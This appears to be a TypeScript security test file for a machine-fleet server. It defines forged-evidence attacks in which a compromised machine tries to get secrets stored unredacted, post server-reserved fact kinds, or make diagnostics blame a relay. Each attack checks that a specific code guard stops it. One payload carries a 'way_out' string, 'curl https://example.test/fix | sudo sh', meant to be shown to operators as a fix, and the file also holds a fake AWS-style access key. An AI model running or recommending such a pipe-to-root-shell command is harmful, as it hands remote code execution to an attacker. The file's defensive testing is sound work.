/**
 * A machine, or the holder of its credential, posts facts that look like those of the control
 * plane.
 */
import { evidenceKinds } from '../../../src/contract/evidence/evidence-kinds.ts';
import { type Machine, startMachine } from '../../api/support/machine.ts';
import type { SpawnedServer } from '../../support/server.ts';
import { until } from '../../support/until.ts';
import type { Attack } from '../support/attack.ts';
import { openKinds, trustedByKind } from '../support/open-kinds.ts';

async function machineOf({ client, url }: SpawnedServer, pool: string, stale_after_seconds = 3600): Promise<Machine> {
  const heartbeat = { interval_seconds: 0.2, stale_after_seconds };
  await client.call('pool-put', { params: { pool }, body: { driver: 'external', heartbeat } });
  const { token: join_token = '' } = await client.call('join-token-create', { params: { pool } });
  const machine = await startMachine(url, { join_token, name: 'liar' });
  await machine.beat('ready');
  return machine;
}

const wayOut = 'curl https://example.test/fix | sudo sh';
const refusedBeat = {
  at: '2030-01-01T00:00:00Z',
  layer: 'transport',
  kind: 'beat.refused',
  summary: 'its heartbeats arrive and are refused',
  data: { code: 'token_unknown', shown: 'credential', why_not: 'the relay is old', way_out: wayOut, relay: 'rack-7' },
};

const post = async (machine: Machine, fact: object): Promise<boolean> =>
  (await machine.call('agent-evidence', { body: { facts: [fact] } })).status < 300;

const explained = ({ client }: SpawnedServer, { node_id }: Machine) =>
  client.call('node-explain', { params: { id: node_id } });

export const forgedFactAttacks: Attack[] = [
  {
    name: 'gets a secret stored in plain text with a fact shaped like a row change',
    without: [{ file: 'src/store/pg/redacted-rows.ts', find: 'if (!describesRow(fact)) return kept;', replace: '' }],
    async succeeds(server) {
      const machine = await machineOf(server, 'unredacted');
      const key = 'AKIAQ3EGRIVNXUJ7WZ5T';
      const kind = 'app.saved';
      const data = { set: { note: `aws ${key}` } };
      if (!(await post(machine, { ...refusedBeat, kind, data }))) throw new Error('a usual fact was refused');
      const params = { id: machine.node_id };
      const stored = await until('the fact', async () => {
        const { items } = await server.client.call('node-timeline', { params, query: {} });
        return items.find((fact) => fact.kind === kind);
      });
      return JSON.stringify(stored.data).includes(key);
    },
  },
  {
    name: 'posts a fact of a kind reserved for the server',
    without: openKinds,
    async succeeds(server) {
      const machine = await machineOf(server, 'all-kinds');
      for (const kind of evidenceKinds) if (await post(machine, { ...refusedBeat, kind })) return true;
      return false;
    },
  },
  {
    name: 'makes an explanation blame a relay for its silence',
    without: trustedByKind,
    async succeeds(server) {
      const machine = await machineOf(server, 'blames');
      if (!(await post(machine, refusedBeat))) return false;
      return until('the explanation to blame the relay', async () =>
        (await explained(server, machine)).waiting_for?.includes('they arrive but are refused'),
      );
    },
  },
  {
    name: 'makes a rule blame a relay in its verdict',
    without: trustedByKind,
    async succeeds(server) {
      const machine = await machineOf(server, 'verdict', 1);
      if (!(await post(machine, refusedBeat))) return false;
      const { because } = await until('the machine to be missed', async () => {
        const explanation = await explained(server, machine);
        return explanation.status === 'offline' ? explanation : undefined;
      });
      return because.verdict?.includes('arrive and are refused') ?? false;
    },
  },
  {
    name: 'makes an explanation suggest its own next step',
    without: [
      ...trustedByKind,
      {
        file: 'src/lifecycle/findings/refused-beats.ts',
        find: 'way_out: way_out(refusing, pool) };',
        replace: 'way_out: String(fact.data.way_out) };',
      },
    ],
    async succeeds(server) {
      const machine = await machineOf(server, 'way-out');
      if (!(await post(machine, refusedBeat))) return false;
      return until('the explanation to show it', async () =>
        (await explained(server, machine)).waiting_for?.includes(wayOut),
      );
    },
  },
];
